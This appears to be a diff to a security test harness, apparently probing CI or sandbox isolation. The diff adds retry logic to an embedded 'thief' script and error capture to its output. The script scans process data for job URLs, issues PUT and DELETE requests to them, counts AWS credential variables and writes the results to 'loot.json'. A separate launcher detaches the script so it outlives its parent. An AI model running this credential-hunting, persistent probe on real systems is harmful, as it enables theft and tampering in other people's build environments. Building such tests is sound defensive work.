@@ -33,6 +33,10 @@ const THIEF = `
 const { readFileSync, writeFileSync } = require('node:fs');
 const read = (path) => { try { return readFileSync(path, 'latin1'); } catch { return ''; } };
 const parents = process.env.PARENTS.split(',');
+/** A kept connection may have been closed meanwhile. */
+const ask = async (url, options, left = 5) => {
+  try { return (await fetch(url, options)).status; } catch (error) { if (left === 0) throw error; return await ask(url, options, left - 1); }
+};
 (async () => {
   const found = { own: new Set(), urls: new Map(), credentials: 0, read: 0 };
   for (let round = 0; round < ${ROUNDS}; round++) {
@@ -43,15 +47,15 @@ const parents = process.env.PARENTS.split(',');
       if (text !== '') found.read++;
       for (const [, url] of text.matchAll(/JOB_URL=["']?([^\\0"'\\s]+)/g)) if (!found.urls.has(url)) {
         const answers = [];
-        for (const method of ['GET', 'PUT', 'DELETE']) answers.push((await fetch(url, { method, body: method === 'PUT' ? 'x' : undefined })).status);
-        answers.push((await fetch(url.replace(/jobs[/]dep_/, 'artifacts/app_1/dep_'))).status, (await fetch(url.replace(/jobs[/]dep_/, 'jobs/dep_0'))).status);
+        for (const method of ['GET', 'PUT', 'DELETE']) answers.push(await ask(url, { method, body: method === 'PUT' ? 'x' : undefined }));
+        answers.push(await ask(url.replace(/jobs[/]dep_/, 'artifacts/app_1/dep_')), await ask(url.replace(/jobs[/]dep_/, 'jobs/dep_0')));
         found.urls.set(url, answers);
       }
       if (/AWS_(SECRET_ACCESS_KEY|SESSION_TOKEN|CONTAINER_CREDENTIALS_RELATIVE_URI)=/.test(text)) found.credentials++;
     }
   }
   writeFileSync('loot.json', JSON.stringify({ ...found, own: [...found.own], urls: [...found.urls.values()] }));
-})();`;
+})().catch((error) => writeFileSync('loot.json', JSON.stringify({ own: String(error) })));`;
 /** Starts the thief in a session of its own and ends, so that the thief is left behind. */
 const LEAVE = `const { readFileSync } = require('node:fs');
   const parentOf = (pid) => Number(/^PPid:\\s+(\\d+)/m.exec(readFileSync('/proc/' + pid + '/status', 'latin1'))[1]);
